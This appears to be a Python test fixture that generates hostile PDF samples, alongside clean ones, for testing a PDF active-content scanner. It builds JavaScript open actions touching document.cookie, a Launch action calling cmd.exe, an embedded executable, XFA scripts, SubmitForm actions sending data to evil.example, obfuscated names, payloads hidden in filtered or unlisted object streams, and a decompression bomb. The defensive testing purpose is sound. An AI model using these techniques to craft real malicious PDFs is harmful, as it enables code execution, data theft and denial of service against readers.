"""Hostile PDFs built in the tests: each hides active content the way an attacker would.

``build`` writes a PDF 1.5 with a cross-reference stream, so that objects can live in an
object stream encoded through any filter chain, as a reader finds them.
"""

import base64
import binascii
import zlib

from pypdf._codecs._codecs import LzwCodec

PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    4: None,  # the page's content stream, filled in by build
}
CONTENT = b"BT /F1 12 Tf 20 100 Td (A signed memorandum) Tj ET"


def _run_length(data):
    out = bytearray()
    for start in range(0, len(data), 128):
        chunk = data[start:start + 128]
        out += bytes([len(chunk) - 1]) + chunk
    return bytes(out + b"\x80")


ENCODERS = {
    "/FlateDecode": zlib.compress,
    "/ASCIIHexDecode": lambda data: binascii.hexlify(data) + b">",
    "/ASCII85Decode": lambda data: base64.a85encode(data, adobe=True)[2:],
    "/RunLengthDecode": _run_length,
    "/LZWDecode": lambda data: LzwCodec().encode(data),
}


def encode(data, chain):
    """``data`` encoded so that decoding through the filters ``chain``, in order, gives it back."""
    for name in reversed(chain):
        data = ENCODERS[name](data)
    return data


def stream(content, chain=("/FlateDecode",), extra=b""):
    encoded = encode(content, chain)
    filters = b"[" + b" ".join(name.encode() for name in chain) + b"]"
    return (b"<< %s /Filter %s /Length %d >>\nstream\n" % (extra, filters, len(encoded)) + encoded
            + b"\nendstream")


def build(catalog=b"/Pages 2 0 R", objects=None, packed=None, chain=("/FlateDecode",), unlisted=False):
    """A PDF whose catalog (object 1) holds ``catalog``, with the extra ``objects`` {number: body} in
    the file and the ``packed`` ones {number: body} in an object stream encoded through ``chain``
    (``unlisted``: the cross-reference stream does not name them, as a reader repairing it would)."""
    plain = {**PAGES, 4: stream(CONTENT), **(objects or {})}
    packed = dict(packed or {})
    catalog_body = b"<< /Type /Catalog " + catalog + b" >>"
    if packed.get(1, "") is None:
        packed[1] = catalog_body
    else:
        plain[1] = catalog_body
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    entries = {}
    numbers = sorted(set(plain) | set(packed))
    next_number = max(numbers) + 1
    for number in sorted(plain):
        entries[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    if packed:
        container = next_number
        next_number += 1
        header, body = [], b""
        for index, number in enumerate(sorted(packed)):
            header.append(b"%d %d" % (number, len(body)))
            body += packed[number] + b"\n"
            entries[number] = (0, 0, 0) if unlisted else (2, container, index)
        header_bytes = b" ".join(header) + b"\n"
        entries[container] = (1, len(out), 0)
        out += b"%d 0 obj\n" % container + stream(
            header_bytes + body, chain, b"/Type /ObjStm /N %d /First %d" % (len(packed), len(header_bytes))
        ) + b"\nendobj\n"
    xref_number = next_number
    entries[xref_number] = (1, len(out), 0)
    size = xref_number + 1
    rows = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + index.to_bytes(2, "big")
        for kind, field, index in (entries.get(n, (0, 0, 0)) for n in range(size)))
    packed_rows = zlib.compress(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
            b"stream\n" % (xref_number, size, len(packed_rows)) + packed_rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % entries[xref_number][1]
    return bytes(out)


def flate_bomb(size=200 * 1024 * 1024):
    """A Flate stream of ``size`` zero bytes, compressed without holding them (about 1/1000 of it)."""
    packer = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    packed = b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()
    body = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"
    return build(objects={9: body})


JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode." * 20
XFA = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">'
       b'<event activity="initialize"><script contentType="application/x-javascript">'
       b"app.alert(1)</script></event></subform></template></xdp:xdp>")


def hostile():
    """The corpus: name -> PDF bytes, each with active content a reader would run or open."""
    return {
        # The three bypasses of the audit.
        "embedded exe": build(
            b"/Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >>",
            objects={5: b"<< /Names [(setup.exe) 6 0 R] >>",
                     6: b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
                     7: stream(EXE, extra=b"/Type /EmbeddedFile")}),
        "open action in a hex+flate object stream": build(
            packed={1: None, 5: JAVASCRIPT}, catalog=b"/Pages 2 0 R /OpenAction 5 0 R",
            chain=("/ASCIIHexDecode", "/FlateDecode")),
        "xfa script in a flate stream": build(
            packed={1: None, 5: b"<< /Fields [] /X#46A 6 0 R >>"}, catalog=b"/Pages 2 0 R /AcroForm 5 0 R",
            objects={6: stream(XFA)}),
        # The classics.
        "plain javascript": build(b"/Pages 2 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >>",
                                  objects={5: JAVASCRIPT}),
        "launch": build(b"/Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"),
        "additional action on a page": build(objects={
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
               b"/AA << /O << /S /J#61vaScript /J#53 (app.alert(1)) >> >> >>"}),
        "rich media annotation": build(objects={
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [5 0 R] >>",
            5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent 6 0 R >>",
            6: b"<< /Assets << /Names [] >> >>"}),
        "submit form in an unlisted object stream": build(
            packed={5: b"<< /S /SubmitForm /F (https://evil.example) >>"}, unlisted=True),
        "submit form action": build(b"/Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
        "flate bomb": flate_bomb(),
    }


def clean():
    """Clean PDFs as generators write them: an object stream, a destination to open at, a link."""
    return {
        "object stream": build(packed={1: None, 5: b"<< /Title (Launching the JavaScript course) >>"},
                               catalog=b"/Pages 2 0 R /Outlines 5 0 R"),
        "open at a destination": build(b"/Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0]"),
        "link annotation": build(objects={
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [5 0 R] >>",
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.org) >> >>"}),
        "large compressed content": build(objects={4: stream(CONTENT * 100_000)}),
        "every filter": build(objects={4: stream(CONTENT, ("/ASCII85Decode", "/LZWDecode", "/RunLengthDecode"))}),
    }
